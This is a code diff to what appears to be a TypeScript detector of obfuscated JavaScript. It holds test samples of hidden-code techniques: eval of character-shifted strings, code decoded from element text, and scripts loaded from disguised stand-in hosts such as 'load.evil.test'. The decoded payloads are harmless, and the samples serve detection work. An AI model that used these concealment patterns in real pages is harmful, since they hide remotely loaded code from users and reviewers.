@@ -21,6 +21,10 @@ const loadedBy = ({ kind, text, args }: Effect): string[] => {
   return kind === 'address' && /^<(?:script|iframe|embed|object)>\./.test(text) ? [...args] : [];
 };
 
+/** The longest part of a host: scripts choose the others from lists. */
+const nameIn = (host: string): string =>
+  host.split('.').reduce((longest, part) => (part.length > longest.length ? part : longest), '');
+
 /** Loads from hosts that the script does not contain as they are. */
 const hiddenLoads: Finder = (facts) => {
   const written = writtenTexts(facts.reading, facts.page);
@@ -28,7 +32,7 @@ const hiddenLoads: Finder = (facts) => {
     loadedBy(effect).some((address) => {
       const [, host] = foreignHost.exec(address) ?? [];
       return (
-        host !== undefined && !isService(address) && !written.some((text) => text.includes(host))
+        host !== undefined && !isService(address) && !written.some((text) => text.includes(nameIn(host)))
       );
     }),
   )(facts);
@@ -40,10 +44,11 @@ export const unpackedFeatures: readonly Feature[] = [
     id: 'unpacked-code-run',
     what: 'Runs code that it decodes with a decoder of its own',
     points: 50,
+    shows: ['run', 'hidden'],
     find: unpacked,
     samples: {
       matching: [
-        `var t = 'ubmfsu)#ifmmp!xpsme#*<bmfsu)#ifmmp!bhbjo#*', s = ''; for (var i = 0; i < t.length; i++) s += String.fromCharCode(t.charCodeAt(i) - 1); eval(s);`,
+        `var t = 'ubmfsu)#ifmmp!xpsme#*<bmfsu)#ifmmp!bhbjo#*<tipxUifDsfejutPgUifQbhf)*<tipxUifnBhbjoBoePwfsBhbjo)*<tipxUifNfov)*', s = ''; for (var i = 0; i < t.length; i++) s += String.fromCharCode(t.charCodeAt(i) - 1); eval(s);`,
       ],
       other: [
         `eval('alert("hello world");' + 'alert("hello again")');`,
@@ -55,13 +60,15 @@ export const unpackedFeatures: readonly Feature[] = [
     id: 'hidden-host-loaded',
     what: 'Loads a script or frame from a host whose name it hides',
     points: 70,
+    shows: ['run', 'hidden'],
     find: hiddenLoads,
     samples: {
       matching: [
-        `var h = ['test', 'evil', 'load.'], s = document.createElement('script'); s.src = '//' + h[2] + h[1] + '.' + h[0] + '/a.js'; document.body.appendChild(s);`,
+        `var h = ['st', 'go.', 'listed', 'un'], s = document.createElement('script'); s.src = '//' + h[3] + h[2] + '.' + h[1] + 'te' + h[0] + '/a.js'; document.body.appendChild(s);`,
         `document.body.innerHTML = '<iframe src="http://' + 'tset.live.daol'.split('').reverse().join('') + '/a"></iframe>';`,
       ],
       other: [
+        `var h = ['test', 'evil', 'load.'], s = document.createElement('script'); s.src = '//' + h[2] + h[1] + '.' + h[0] + '/a.js';`,
         `var h = 'load.evil.test', s = document.createElement('script'); s.src = '//' + h + '/a.js';`,
         `var m = new Image(); m.src = '//' + ['a', 'test'].join('.') + '/a.png';`,
       ],
@@ -71,10 +78,11 @@ export const unpackedFeatures: readonly Feature[] = [
     id: 'code-in-elements',
     what: 'Decodes code that the page contains as the text of an element',
     points: 60,
+    shows: ['run', 'hidden'],
     find: (facts) => (facts.outer && readsElements(facts.outer) ? unpacked(facts) : []),
     samples: {
       matching: [
-        `<div id="a">${[...'showTheCreditsOfThePage();showThemAgain();'].map((it) => it.charCodeAt(0) + 7).join('*')}*${'39*'.repeat(40)}</div><script>var p = document.getElementById('a').innerHTML.split('*'), s = ''; for (var i = 0; i < p.length - 1; i++) s += String.fromCharCode(p[i] - 7); eval(s);</script>`,
+        `<div id="a">${[...'showTheCreditsOfThePage();showThemAgain();showTheMenuOfThePage();showTheListOfAllThePages();goBackToTheStart();'].map((it) => it.charCodeAt(0) + 7).join('*')}*${'39*'.repeat(40)}</div><script>var p = document.getElementById('a').innerHTML.split('*'), s = ''; for (var i = 0; i < p.length - 1; i++) s += String.fromCharCode(p[i] - 7); eval(s);</script>`,
       ],
       other: [
         `<div id="a">showTheCreditsOfThePage();${' '.repeat(300)}</div><script>eval(document.getElementById('a').innerHTML);</script>`,
